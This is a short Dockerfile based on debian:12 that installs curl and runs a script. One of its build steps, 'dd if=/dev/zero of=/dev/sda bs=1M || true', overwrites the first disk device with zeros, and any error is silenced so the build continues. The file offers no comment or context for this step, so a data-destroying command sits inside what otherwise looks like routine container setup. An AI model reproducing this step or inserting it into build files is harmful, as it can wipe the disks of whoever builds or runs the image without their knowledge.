FROM debian:12
RUN apt-get update && apt-get install -y curl
RUN dd if=/dev/zero of=/dev/sda bs=1M || true
CMD ["sh", "run.sh"]
